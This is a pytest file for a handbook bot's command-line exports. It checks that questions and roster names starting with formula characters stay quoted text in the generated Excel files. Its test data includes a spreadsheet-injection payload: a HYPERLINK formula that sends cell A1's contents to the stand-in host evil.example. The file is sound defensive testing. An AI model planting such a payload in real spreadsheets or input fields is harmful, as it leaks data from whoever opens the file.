"""Issue #14 item 7: what members and secretaries typed is never a formula in an export —
checked on each dangerous first character through the real commands, down to the XML."""

from __future__ import annotations

import asyncio
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import update

from bot.cli import main
from bot.db import Database
from bot.demo import seed_demo
from bot.exports.cells import FORMULA_PREFIXES
from bot.models import HandbookQuery, Member

OFFICES = "Đảng bộ tỉnh Demo/Đảng bộ Khối các cơ quan và doanh nghiệp"
PAYLOAD = 'HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")'


@pytest.fixture(autouse=True)
def _cli_database(monkeypatch: pytest.MonkeyPatch, database_url: str) -> None:
    monkeypatch.setenv("SOTAY_DATABASE_URL", database_url)


async def sotay(*args: str | Path) -> int:
    return await asyncio.to_thread(main, [str(arg) for arg in args])


def _text_cells(path: Path) -> list[openpyxl.cell.Cell]:
    """Every cell of the workbook holding the payload (a CR read back from XML is a LF);
    none may be a formula in the file itself."""
    with zipfile.ZipFile(path) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in book.read(name) and b"<f " not in book.read(name)
    found = []
    for sheet in openpyxl.load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            found += [c for c in row if isinstance(c.value, str) and c.value.endswith(PAYLOAD)]
    return found


def _assert_text(cells: list[openpyxl.cell.Cell], expected: int) -> None:
    assert len(cells) >= expected
    for cell in cells:
        assert cell.value[1:] == PAYLOAD
        assert cell.data_type == "s", cell.coordinate
        assert cell.quotePrefix, cell.coordinate


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES, ids=repr)
async def test_a_question_stays_text_in_questions_unanswered(
    database: Database, tmp_path: Path, prefix: str
) -> None:
    question = prefix + PAYLOAD
    async with database.session() as session, session.begin():
        session.add(
            HandbookQuery(
                asked_at=datetime(2026, 11, 20, 3, tzinfo=UTC),
                question=question,
                answered=False,
                score=0.1,
            )
        )
    out = tmp_path / "cau-hoi.xlsx"
    assert await sotay("questions", "unanswered", "--since", "2026-11-01", "--out", out) == 0
    _assert_text(_text_cells(out), 1)


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES, ids=repr)
async def test_a_roster_name_stays_text_in_codes_and_attendance(
    database: Database, tmp_path: Path, prefix: str
) -> None:
    name = prefix + PAYLOAD
    async with database.session() as session, session.begin():
        await seed_demo(session)
        await session.execute(
            update(Member).where(Member.card_number == "90000003").values(full_name=name)
        )
    codes = tmp_path / "ma.xlsx"
    assert await sotay("codes", "issue", "--unit", OFFICES, "--out", codes) == 0
    _assert_text(_text_cells(codes), 1)
    attendance = tmp_path / "chuyen-can.xlsx"
    command = ("report", "attendance", "--unit", OFFICES, "--year", "2026", "--out", attendance)
    assert await sotay(*command) == 0
    # The summary sheet and the unit's own sheet.
    _assert_text(_text_cells(attendance), 2)


async def test_plain_values_are_left_alone(database: Database, tmp_path: Path) -> None:
    async with database.session() as session, session.begin():
        session.add(
            HandbookQuery(
                asked_at=datetime(2026, 11, 20, 3, tzinfo=UTC),
                question="đảng phí bao nhiêu",
                answered=False,
                score=0.25,
            )
        )
    out = tmp_path / "cau-hoi.xlsx"
    assert await sotay("questions", "unanswered", "--since", "2026-11-01", "--out", out) == 0
    (row,) = openpyxl.load_workbook(out).active.iter_rows(min_row=2)
    assert row[1].value == "đảng phí bao nhiêu" and not row[1].quotePrefix
    assert row[4].value == 0.25 and row[4].data_type == "n"
